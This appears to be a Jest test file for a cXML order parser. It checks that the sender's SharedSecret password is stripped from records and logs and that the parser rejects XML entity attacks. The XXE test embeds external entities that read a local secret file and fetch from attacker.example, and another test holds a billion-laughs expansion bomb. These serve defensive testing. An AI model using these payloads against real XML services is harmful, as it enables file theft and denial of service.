import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import nock from 'nock'
import { getPath } from '../../src/connector-sdk'
import { parseUbl, real, recordingLogger, recordsOf } from './ubl.test-kit'

/**
 * cXML files carry a DOCTYPE and the sender's password (SharedSecret). The DOCTYPE is skipped, never
 * interpreted — no external DTD or entity is fetched, no declared entity is expanded — and the
 * SharedSecret never reaches a record or a log line.
 */
describe('ubl: cXML SharedSecret', () => {
  it('strips the SharedSecret from every record it yields', async () => {
    const batches = await parseUbl(real('cxml-php', 'OrderRequest.xml'))
    const json = JSON.stringify(batches)
    expect(json).not.toContain('coyote')
    expect(json).not.toContain('SharedSecret')
    const [order] = recordsOf(batches, 'sales-order')
    // The rest of the sender's credential is kept.
    expect(getPath(order, 'Header.Sender')).toEqual({ Credential: [{ '@domain': 'NetworkId', Identity: 'inbound@prominate-platform.com' }], UserAgent: 'Platform Order Fulfillment Hub' })
  })

  it('never logs it, for an order or for a document it skips', async () => {
    const logger = recordingLogger()
    await parseUbl(real('cxml-php', 'OrderRequest.xml'), {}, logger)
    await parseUbl(real('cxml-php', 'ShipNoticeRequest.xml'), {}, logger)
    expect(logger.lines.length).toBeGreaterThan(0)
    expect(logger.lines.join('\n')).not.toMatch(/coyote|abracadabra/)
  })
})

describe('ubl: no XXE', () => {
  let dir: string
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'erphub-xxe-'))
    writeFileSync(join(dir, 'secret.txt'), 'TOP-SECRET-FILE-CONTENT')
  })
  afterAll(() => rmSync(dir, { recursive: true, force: true }))
  beforeEach(() => nock.disableNetConnect())
  afterEach(() => {
    nock.cleanAll()
    nock.enableNetConnect()
  })

  const orderRequest = (doctype: string, name: string) => `<?xml version="1.0"?>
${doctype}
<cXML payloadID="x@test" timestamp="2024-03-12T10:00:00+01:00">
  <Header><From><Credential domain="NetworkId"><Identity>buyer</Identity></Credential></From></Header>
  <Request><OrderRequest>
    <OrderRequestHeader orderID="XXE-1" orderDate="2024-03-12T10:00:00+01:00" type="new">
      <BillTo><Address><Name xml:lang="en">${name}</Name></Address></BillTo>
    </OrderRequestHeader>
    <ItemOut quantity="1" lineNumber="1"><ItemID><SupplierPartID>P1</SupplierPartID></ItemID></ItemOut>
  </OrderRequest></Request>
</cXML>`

  it('neither reads a file nor fetches a URL an external entity points at', async () => {
    const remote = nock('http://attacker.example').get(/.*/).reply(200, 'REMOTE-ENTITY-CONTENT').persist()
    const doctype = `<!DOCTYPE cXML [
      <!ENTITY file SYSTEM "file://${join(dir, 'secret.txt')}">
      <!ENTITY remote SYSTEM "http://attacker.example/entity">
      <!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;
    ]>`
    const batches = await parseUbl([orderRequest(doctype, '&file;&remote;')])
    const json = JSON.stringify(batches)
    expect(json).not.toMatch(/TOP-SECRET|REMOTE-ENTITY/)
    expect(getPath(recordsOf(batches, 'customer')[0], 'Request.OrderRequest.OrderRequestHeader.BillTo.Address.Name')).toBe('&file;&remote;')
    expect(remote.isDone()).toBe(false)
  })

  it('does not fetch the external DTD the real cXML files name', async () => {
    const dtd = nock('http://xml.cxml.org').get(/.*/).reply(200, '<!ENTITY x "y">').persist()
    await parseUbl(real('cxml-php', 'OrderRequest.xml'))
    expect(dtd.isDone()).toBe(false)
  })

  it('does not expand internal entities, so a billion-laughs bomb stays a few bytes', async () => {
    const doctype = `<!DOCTYPE cXML [
      <!ENTITY lol "lol">
      <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
      <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
      <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
    ]>`
    const [customer] = recordsOf(await parseUbl([orderRequest(doctype, '&lol9;')]), 'customer')
    expect(getPath(customer, 'Request.OrderRequest.OrderRequestHeader.BillTo.Address.Name')).toBe('&lol9;')
  })
})
